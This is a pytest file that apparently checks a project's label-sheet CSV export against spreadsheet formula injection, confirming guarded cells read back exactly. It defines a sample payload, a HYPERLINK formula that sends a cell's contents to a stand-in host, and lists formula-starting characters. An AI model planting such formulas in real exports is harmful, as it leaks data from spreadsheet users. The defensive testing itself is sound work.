"""A label sheet's cells cannot start a formula, and read back exactly (issue 55 probe 7).

A question imported from production logs that starts with ``=HYPERLINK(...)`` was written raw
into the ``golden label --by-hand --export`` CSV, which goes to a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from rag_experiments.golden.build import case_record
from rag_experiments.golden.golden_file import GoldenFile
from rag_experiments.golden.sheet_cells import read_row, sheet_row

from ..tracking.conftest import _template_db, cli, store  # noqa: F401 - fixtures
from rag_experiments.types import Hit

from ..tracking.golden_runs import log_golden_run
from .test_hand_label import PARAGRAPH, corpus, docs_of, judgements, span_hit  # noqa: F401 - fixture

EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click me")'
STARTS = ["=", "+", "-", "@", "\t", "\r", "'", "a", " ", ""]


@pytest.mark.parametrize("prefix", ["", "'", "''"])
def test_every_formula_start_is_guarded_and_every_value_reads_back(prefix):
    values = [prefix + a + b + "SUM(1)" for a, b in itertools.product(STARTS, repeat=2)] + [3, "", "-"]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([f"c{i}" for i in range(len(values))])
    w.writerow(sheet_row(values))
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
    for cell in row.values():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert list(read_row(row).values()) == [str(v) for v in values]


def test_a_question_starting_a_formula_is_text_in_the_sheet_and_imports(store, mini_golden, corpus, tmp_path,
                                                                        capsys):
    docs = docs_of(corpus)
    rec = case_record(docs["mini/runtime-config-resource.html"], PARAGRAPH, EVIL, "production",
                      {"method": "import", "author": "logs"})
    GoldenFile(mini_golden).append([rec])
    title = docs["mini/errcodes-appendix.html"]

    def run(case):  # every case: its evidence, then a title to label
        s = case.relevant[0].span
        return (Hit("e", s.doc_id, s.source_uri, case.doc_type, s.start, s.end, 2.0, 1), span_hit(title, 0, 20, 2))

    run_id = log_golden_run(mini_golden, run, name="pool")
    base = ["golden", "label", "--golden", str(mini_golden), "--labeller", "bob",
            "--set", f"corpus.path={corpus}", "--set", "corpus.name=mini"]
    sheet = tmp_path / "pairs.csv"
    assert cli(*base, "--by-hand", "--pool", run_id, "-k", "10", "--export", str(sheet)) == 0
    capsys.readouterr()
    with sheet.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [v for r in rows for v in r.values()]
    assert all(c[:1] not in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    (evil,) = [r for r in rows if r["case_id"] == rec["id"]]
    assert evil["question"] == "'" + EVIL
    with sheet.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows({**r, "verdict": "y"} for r in rows)
    assert cli(*base, "--import", str(sheet)) == 0, capsys.readouterr().err
    got = [j for j in judgements(mini_golden) if j["case_id"] == rec["id"]]
    assert len(got) == 1 and got[0]["verdict"] == "YES"
